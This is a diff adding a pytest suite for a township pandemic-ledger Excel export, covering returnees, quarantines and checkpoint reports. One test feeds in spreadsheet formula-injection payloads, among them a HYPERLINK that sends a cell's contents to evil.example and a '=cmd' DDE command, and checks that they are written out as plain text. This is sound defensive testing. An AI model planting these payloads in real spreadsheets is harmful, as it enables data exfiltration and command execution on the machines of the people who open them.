@@ -1,0 +1,350 @@
+"""`python main.py export-ledger OUT.xlsx [--village NAME]`: the 台账 workbook, from data written with the models."""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import json
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from sqlalchemy import select
+
+from admin.ledger import load_ledger
+from admin.ledger_xlsx import write_ledger
+from broadcasts.riskareas.entries import SHANGHAI
+from models.cadre import create_invite, redeem_invite
+from models.checkpoint import CheckpointReport
+from models.db import transaction
+from models.declaration import SUPERSEDED, Classification, Declaration, HouseholdMember
+from models.person import Person
+from models.quarantine import CANCELLED, Quarantine
+from models.town import Village
+from tests.live import run_cli
+
+NOW = dt.datetime(2021, 8, 6, 2, 0, tzinfo=dt.UTC)
+D = dt.date
+SHEETS = ["返乡人员", "隔离管控", "卡点异常"]
+RETURNEE_HEADERS = [
+    "序号", "姓名", "身份证号", "联系电话", "所在村", "从何地返回", "返回日期", "交通方式", "健康码",
+    "管控措施", "开始日期", "结束日期", "包保责任人", "依据",
+]  # fmt: skip
+QUARANTINE_HEADERS = [
+    "序号",
+    "姓名",
+    "联系电话",
+    "所在村",
+    "管控措施",
+    "开始日期",
+    "结束日期",
+    "核酸采样日期",
+    "包保责任人",
+]
+CHECKPOINT_HEADERS = [
+    "序号", "时间", "卡点/村", "车牌", "姓名", "电话", "从何地来", "健康码", "人数", "处置", "是否已报备", "原文",
+]  # fmt: skip
+MINGGAO_PEOPLE = "包村干部：王镇 13800000001；村干部：刘支书 13800000003；村医：赵医生 13800000002"
+ID_NUMBER = "410329199001011234"
+
+
+class Town:
+    """Writes ledger data with the models, in one transaction per call."""
+
+    def __init__(self, server):
+        self.db = server.state.db
+        with transaction(self.db) as session:
+            self.villages = {v.name: v.id for v in session.execute(select(Village)).scalars()}
+        self.count = 0
+
+    def person(self, session, name: str | None = None, phone: str | None = None) -> int:
+        self.count += 1
+        person = Person(openid=f"ledger-{self.count}", name=name, phone=phone, village_id=None)
+        session.add(person)
+        session.flush()
+        return person.id
+
+    def bind(self, village: str, role: str, name: str, phone: str) -> None:
+        with transaction(self.db) as session:
+            invite = create_invite(session, role=role, village_id=self.villages[village], now=NOW)
+            redeem_invite(session, code=invite.code, person_id=self.person(session, name, phone), now=NOW)
+
+    def declare(self, village: str, name: str, arrived: dt.date, *, members=(), **fields) -> int:
+        values = {"phone": "13700000000", "health_code": "green", "active_until": arrived + dt.timedelta(days=14)}
+        with transaction(self.db) as session:
+            declaration = Declaration(
+                person_id=self.person(session),
+                village_id=self.villages[village],
+                name=name,
+                arrived_on=arrived,
+                created_at=NOW,
+                **{**values, **fields},
+            )
+            session.add(declaration)
+            session.flush()
+            for member_name, relation in members:
+                session.add(HouseholdMember(declaration_id=declaration.id, name=member_name, relation=relation))
+            return declaration.id
+
+    def classify(self, declaration_id: int, disposition: str, reason: str, start: dt.date, days: int = 0, **fields):
+        end = start + dt.timedelta(days=days) if days else None
+        with transaction(self.db) as session:
+            row = Classification(
+                declaration_id=declaration_id,
+                rule_id="test",
+                policy_version="test",
+                disposition=disposition,
+                days=days,
+                start_on=start,
+                end_on=end,
+                reason=reason,
+                created_at=NOW,
+                **fields,
+            )
+            session.add(row)
+            session.flush()
+            return row.id
+
+    def quarantine(self, declaration_id: int, classification_id: int, kind: str, start, end, samples=(), **fields):
+        with transaction(self.db) as session:
+            declaration = session.get(Declaration, declaration_id)
+            session.add(
+                Quarantine(
+                    declaration_id=declaration_id,
+                    classification_id=classification_id,
+                    person_id=declaration.person_id,
+                    village_id=declaration.village_id,
+                    kind=kind,
+                    start_on=start,
+                    end_on=end,
+                    sampling_dates=json.dumps([d.isoformat() for d in samples]),
+                    created_at=NOW,
+                    **fields,
+                )
+            )
+
+    def report(self, village: str | None, seen_at: dt.datetime, text: str, **fields) -> None:
+        with transaction(self.db) as session:
+            session.add(
+                CheckpointReport(
+                    reporter_person_id=self.person(session, "卡点值守", "13600000000"),
+                    village_id=self.villages[village] if village else None,
+                    seen_at=seen_at,
+                    text=text,
+                    **fields,
+                )
+            )
+
+
+@pytest.fixture
+def town(server) -> Town:
+    """鸣皋村 with three cadres and two returnees (one with family), 孙村 with one cadre and one from abroad."""
+    town = Town(server)
+    town.bind("鸣皋村", "village_cadre", "刘支书", "13800000003")
+    town.bind("鸣皋村", "township_cadre", "王镇", "13800000001")
+    town.bind("鸣皋村", "village_doctor", "赵医生", "13800000002")
+    town.bind("鸣皋村", "checkpoint", "卡点老李", "13800000004")  # not a responsible person
+    town.bind("孙村", "village_cadre", "孙书记", "13900000009")
+
+    zhang = town.declare(
+        "鸣皋村", "张三", D(2021, 8, 5), members=[("李四", "妻子"), ("张小明", None)], id_number=ID_NUMBER,
+        phone="13700000001", origin_province="河南省", origin_city="郑州市", origin_district="二七区",
+        origin_township="长江路街道", transport="train", transport_detail="G1234", health_code="yellow",
+    )  # fmt: skip
+    old = town.classify(zhang, "集中隔离", "旧的依据：二七区全域", D(2021, 8, 5), 14, status=SUPERSEDED)
+    town.quarantine(zhang, old, "集中隔离", D(2021, 8, 5), D(2021, 8, 19), status=CANCELLED)
+    new = town.classify(
+        zhang, "居家隔离", "长江路街道为中风险地区", D(2021, 8, 5), 14, source="override", note="已核实住址"
+    )
+    samples = [D(2021, 8, 5), D(2021, 8, 8), D(2021, 8, 11), D(2021, 8, 19)]
+    town.quarantine(zhang, new, "居家隔离", D(2021, 8, 5), D(2021, 8, 19), samples)
+
+    wang = town.declare(
+        "鸣皋村", "王五", D(2021, 8, 1), id_number="41032919851231002X", phone="13700000002",
+        origin_province="北京市", origin_city="北京市", origin_district="海淀区", transport="self_drive",
+        transport_detail="豫C12345",
+    )  # fmt: skip
+    town.classify(wang, "无需隔离", "海淀区不在风险地区名单", D(2021, 8, 1))
+
+    sun = town.declare(
+        "孙村", "孙六", D(2021, 7, 30), phone="13700000003", abroad=True, transport="plane", health_code="red"
+    )
+    central = town.classify(sun, "集中隔离", "境外返回", D(2021, 7, 30), 21)
+    town.quarantine(sun, central, "集中隔离", D(2021, 7, 30), D(2021, 8, 20), home_start_on=D(2021, 8, 13))
+
+    town.report(
+        "鸣皋村", dt.datetime(2021, 8, 6, 1, 30, tzinfo=dt.UTC), "豫A88888 三人 郑州来 黄码 已劝返",
+        plate="豫A88888", name="陈七", phone="13500000001", origin="郑州", health_code="yellow", people=3,
+        action="劝返",
+    )  # fmt: skip
+    town.report(
+        "孙村", dt.datetime(2021, 8, 5, 12, 0, tzinfo=dt.UTC), "孙六 坐飞机回来 红码", name="孙六",
+        health_code="red", people=1, action="转运隔离点", declaration_id=sun,
+    )  # fmt: skip
+    town.report("鸣皋村", dt.datetime(2021, 8, 5, 0, 0, tzinfo=dt.UTC), "绿码 放行", anomaly=False)
+    town.report(None, dt.datetime(2021, 8, 6, 3, 0, tzinfo=dt.UTC), "路口有车辆强行通过", action="已报派出所")
+    return town
+
+
+def export(database_url: str, tmp_path: Path, *args: str) -> openpyxl.Workbook:
+    out = tmp_path / "台账.xlsx"
+    result = run_cli("export-ledger", str(out), *args, DATABASE_URL=database_url)
+    assert result.returncode == 0, result.stderr
+    assert "已导出" in result.stdout
+    return openpyxl.load_workbook(out)
+
+
+def table(book: openpyxl.Workbook, title: str) -> list[list]:
+    return [list(row) for row in book[title].iter_rows(values_only=True)]
+
+
+def column(rows: list[list], header: str) -> list:
+    index = rows[0].index(header)
+    return [row[index] for row in rows[1:]]
+
+
+def test_three_sheets_with_the_town_headers_frozen_and_bold(town, database_url, tmp_path):
+    book = export(database_url, tmp_path)
+    assert book.sheetnames == SHEETS
+    for title, headers in zip(SHEETS, (RETURNEE_HEADERS, QUARANTINE_HEADERS, CHECKPOINT_HEADERS), strict=True):
+        sheet = book[title]
+        assert [cell.value for cell in sheet[1]] == headers
+        assert all(cell.font.bold for cell in sheet[1])
+        assert sheet.freeze_panes == "A2"
+        assert sheet.column_dimensions["B"].width >= 6
+    assert "鸣皋镇" in book.properties.title
+
+
+def test_returnees_one_row_each_with_family_by_village_then_arrival(town, database_url, tmp_path):
+    rows = table(export(database_url, tmp_path), "返乡人员")
+    assert column(rows, "序号") == [1, 2, 3, 4, 5]
+    assert column(rows, "姓名") == ["王五", "张三", "李四（与张三同行，妻子）", "张小明（与张三同行）", "孙六"]
+    zhang = dict(zip(rows[0], rows[2], strict=True))
+    assert zhang == {
+        "序号": 2,
+        "姓名": "张三",
+        "身份证号": ID_NUMBER,
+        "联系电话": "13700000001",
+        "所在村": "鸣皋村",
+        "从何地返回": "河南省郑州市二七区长江路街道",
+        "返回日期": dt.datetime(2021, 8, 5),
+        "交通方式": "高铁/火车（G1234）",
+        "健康码": "黄码",
+        "管控措施": "居家隔离（干部调整）",
+        "开始日期": dt.datetime(2021, 8, 5),
+        "结束日期": dt.datetime(2021, 8, 19),
+        "包保责任人": MINGGAO_PEOPLE,
+        "依据": "长江路街道为中风险地区；干部说明：已核实住址",
+    }
+    wife = dict(zip(rows[0], rows[3], strict=True))
+    assert wife["身份证号"] is None and wife["健康码"] is None
+    assert [wife[k] for k in ("联系电话", "从何地返回", "管控措施", "结束日期", "包保责任人")] == [
+        "13700000001", "河南省郑州市二七区长江路街道", "居家隔离（干部调整）", dt.datetime(2021, 8, 19), MINGGAO_PEOPLE,
+    ]  # fmt: skip
+    assert column(rows, "从何地返回")[0] == "北京市海淀区"
+    assert column(rows, "交通方式")[0] == "自驾（豫C12345）"
+    assert column(rows, "结束日期")[0] is None
+    sun = dict(zip(rows[0], rows[5], strict=True))
+    assert (sun["从何地返回"], sun["健康码"], sun["包保责任人"]) == ("境外", "红码", "村干部：孙书记 13900000009")
+    assert not any("旧的依据" in str(value) for row in rows for value in row)  # superseded
+    assert not any("卡点老李" in str(value) for row in rows for value in row)
+
+
+def test_dates_are_excel_dates_and_numbers_stay_text(town, database_url, tmp_path):
+    sheet = export(database_url, tmp_path)["返乡人员"]
+    arrived = sheet["G3"]
+    assert arrived.is_date and arrived.number_format == "yyyy-mm-dd"
+    for cell in (sheet["C3"], sheet["D3"], sheet["C2"]):
+        assert cell.data_type == "s" and cell.number_format == "@"
+    assert sheet["C3"].value == ID_NUMBER and sheet["C2"].value == "41032919851231002X"
+
+
+def test_active_quarantines_only_with_sampling_dates(town, database_url, tmp_path):
+    rows = table(export(database_url, tmp_path), "隔离管控")
+    assert rows[1:] == [
+        [
+            1, "张三（同行：李四、张小明）", "13700000001", "鸣皋村", "居家隔离", dt.datetime(2021, 8, 5),
+            dt.datetime(2021, 8, 19), "2021-08-05、2021-08-08、2021-08-11、2021-08-19", MINGGAO_PEOPLE,
+        ],
+        [
+            2, "孙六", "13700000003", "孙村", "集中隔离（2021-08-13起居家隔离）", dt.datetime(2021, 7, 30),
+            dt.datetime(2021, 8, 20), None, "村干部：孙书记 13900000009",
+        ],
+    ]  # fmt: skip
+
+
+def test_checkpoint_anomalies_in_local_time_with_declared_or_not(town, database_url, tmp_path):
+    rows = table(export(database_url, tmp_path), "卡点异常")
+    assert rows[1:] == [
+        [1, dt.datetime(2021, 8, 5, 20, 0), "孙村", None, "孙六", None, None, "红码", 1, "转运隔离点", "是",
+         "孙六 坐飞机回来 红码"],
+        [2, dt.datetime(2021, 8, 6, 9, 30), "鸣皋村", "豫A88888", "陈七", "13500000001", "郑州", "黄码", 3, "劝返",
+         "否", "豫A88888 三人 郑州来 黄码 已劝返"],
+        [3, dt.datetime(2021, 8, 6, 11, 0), "未注明", None, None, None, None, None, None, "已报派出所", "否",
+         "路口有车辆强行通过"],
+    ]  # fmt: skip
+
+
+def test_village_limits_every_sheet_typed_as_villagers_type_it(town, database_url, tmp_path):
+    book = export(database_url, tmp_path, "--village", "明皋")  # a homophone of 鸣皋
+    for title in SHEETS:
+        rows = table(book, title)
+        villages = column(rows, "卡点/村" if title == "卡点异常" else "所在村")
+        assert villages and set(villages) == {"鸣皋村"}, title
+    assert column(table(book, "返乡人员"), "序号") == [1, 2, 3, 4]
+    assert "鸣皋村" in book.properties.title
+
+
+def test_unknown_village_is_an_error_with_close_matches(town, database_url, tmp_path):
+    out = tmp_path / "x.xlsx"
+    result = run_cli("export-ledger", str(out), "--village", "叶寨", DATABASE_URL=database_url)
+    assert result.returncode == 2
+    assert "叶寨" in result.stderr and "东叶寨村" in result.stderr and "西叶寨村" in result.stderr
+    assert not out.exists()
+    result = run_cli("export-ledger", str(out), "--village", "北京", DATABASE_URL=database_url)
+    assert result.returncode == 2 and "没有找到村「北京」" in result.stderr
+    assert not out.exists()
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "@SUM(A1:A9)", "-2+3", "\t=1", "\r=2"]
+
+
+def test_text_that_looks_like_a_formula_stays_text(server, database_url, tmp_path):
+    town = Town(server)
+    for number, name in enumerate(HOSTILE):
+        town.declare("鸣皋村", name, D(2021, 8, number + 1), id_number=ID_NUMBER, members=[("=1+1", "=A1")])
+    town.report("鸣皋村", NOW, "=cmd|' /C calc'!A0", name="@SUM(1)", action="-1")
+    out = tmp_path / "台账.xlsx"
+    assert run_cli("export-ledger", str(out), DATABASE_URL=database_url).returncode == 0
+    with zipfile.ZipFile(out) as package:
+        sheets = [package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
+    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
+
+    book = openpyxl.load_workbook(out)
+    names = [row[1] for row in book["返乡人员"].iter_rows(min_row=2)]
+    # XML parsers read a raw carriage return as a line feed (Excel too); what matters is that it stays text.
+    assert [cell.value for cell in names[::2]] == [name.replace("\r", "\n") for name in HOSTILE]
+    assert names[1].value == '=1+1（与=HYPERLINK("http://evil.example/?x="&A1,"点我")同行，=A1）'
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
+    assert {row[2].value for row in book["返乡人员"].iter_rows(min_row=2) if row[2].value} == {ID_NUMBER}
+    report = {cell.column_letter: cell for cell in book["卡点异常"][2]}
+    assert (report["E"].value, report["J"].value, report["L"].value) == ("@SUM(1)", "-1", "=cmd|' /C calc'!A0")
+    assert all(report[c].quotePrefix and report[c].data_type == "s" for c in "EJL")
+
+
+def test_workbook_writes_to_a_file_like_object(town, server):
+    with transaction(server.state.db) as session:
+        ledger = load_ledger(session, town="鸣皋镇", now=NOW, tz=SHANGHAI)
+    buffer = io.BytesIO()
+    write_ledger(ledger, buffer)
+    book = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
+    assert book.sheetnames == SHEETS
+    assert book["返乡人员"].max_row == 6
+    assert ledger.exported_at == NOW.astimezone(SHANGHAI)
+
+
+def test_empty_town_exports_headers_only(server, database_url, tmp_path):
+    book = export(database_url, tmp_path)
+    assert [book[title].max_row for title in SHEETS] == [1, 1, 1]
+    assert table(book, "返乡人员") == [RETURNEE_HEADERS]
